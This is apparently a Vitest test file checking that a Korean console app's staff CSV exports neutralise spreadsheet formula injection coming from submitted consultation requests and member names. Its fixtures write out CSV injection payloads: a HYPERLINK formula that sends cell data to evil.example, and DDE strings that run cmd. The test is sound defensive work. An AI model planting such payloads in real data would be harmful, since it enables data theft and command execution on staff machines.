import { beforeAll, describe, expect, it } from 'vitest';
import polyglotI18nProvider from 'ra-i18n-polyglot';
import { ko } from '../../console/src/i18n/ko.ts';
import { csvOf } from '../../console/src/exports/csv.ts';
import { formsCsv, membersCsv } from '../../console/src/exports/columns.ts';
import { consoleClient, type ConsoleClient } from './support/content.ts';
import { bearer } from './support/members.ts';
import { ADMIN_SCOPES, createUser, login } from './support/testApp.ts';
import { freshHttp, member, request_, submit, t, useFrontDesk } from './support/frontDesk.ts';

// Formulas in staff CSV exports (issue #19): what outsiders type (a consultation request, a member's
// own name) reaches the console's exports through the real API, and the console's CSV module writes
// no cell that Excel would run as a formula, while keeping the text.

useFrontDesk();

const translate = polyglotI18nProvider(() => ko, 'ko').translate;

const HYPERLINK = '=HYPERLINK("https://evil.example/?"&F2&G2,"상세")';
const CMD = "+cmd|' /C calc'!A0";
const SUM = "@SUM(1+1)*cmd|' /C calc'!A0";

/** RFC 4180: the file's lines of cells (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"' && cell === '') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** The export as the console writes it: its CSV file taken apart, without the byte-order mark. */
async function exported(resource: 'users' | 'forms', filter: Record<string, unknown>) {
  const res = await admin.raw('post', `${resource}/export`).send({ reason: '수식 점검', filter });
  expect(res.status).toBe(200);
  const file = csvOf(
    res.body as Array<Record<string, unknown>>,
    resource === 'users' ? membersCsv : formsCsv,
    translate,
  );
  expect(file.charCodeAt(0)).toBe(0xfeff);
  return parseCsv(file.slice(1));
}

/** A 관리자: exports of personal data are theirs. */
let admin: ConsoleClient;

const formulaLike = (rows: string[][]) => rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));

describe('CSV exports of what outsiders typed', () => {
  beforeAll(async () => {
    admin = consoleClient(t, (await login(t, await createUser(t, ADMIN_SCOPES, 'admin'))).accessToken);
    for (const [name, message] of [
      [HYPERLINK, SUM],
      [CMD, '-2+3 다리가 붓습니다'],
    ]) {
      const res = await submit({ ...request_, name: name!, message: message! });
      expect(res.status, JSON.stringify(res.body)).toBe(201);
    }
    const renamed = await freshHttp()
      .put('/api/v1/me')
      .set('Authorization', bearer(member.accessToken))
      .send({ name: CMD });
    expect(renamed.status, JSON.stringify(renamed.body)).toBe(200);
    expect(renamed.body.me.name).toBe(CMD);
  });

  it('writes a request named =HYPERLINK(...) with no cell that starts a formula, keeping its text', async () => {
    // Both came from the same number: found by its last four digits.
    const [header, ...rows] = await exported('forms', { q: '8765' });
    expect(header).toContain('이름');
    expect(rows).toHaveLength(2);
    expect(formulaLike([header!, ...rows])).toEqual([]);
    const names = rows.map((row) => row[header!.indexOf('이름')]);
    expect(names.sort()).toEqual([`'${CMD}`, `'${HYPERLINK}`].sort());
    const messages = rows.map((row) => row[header!.indexOf('상담 내용')]);
    expect(messages.sort()).toEqual([`'${SUM}`, "'-2+3 다리가 붓습니다"].sort());
    // The phone stays a readable number with its leading 0, as text.
    expect(rows.map((row) => row[header!.indexOf('연락처')])).toEqual(['010-4321-8765', '010-4321-8765']);
  });

  it('writes a member who renamed themselves +cmd|... with no cell that starts a formula', async () => {
    const [header, ...rows] = await exported('users', { q: member.username });
    expect(rows).toHaveLength(1);
    expect(formulaLike([header!, ...rows])).toEqual([]);
    expect(rows[0]![header!.indexOf('이름')]).toBe(`'${CMD}`);
    expect(rows[0]![header!.indexOf('아이디')]).toBe(member.username);
    expect(rows[0]![header!.indexOf('휴대폰 번호')]).toBe('010-4321-8765');
  });
});
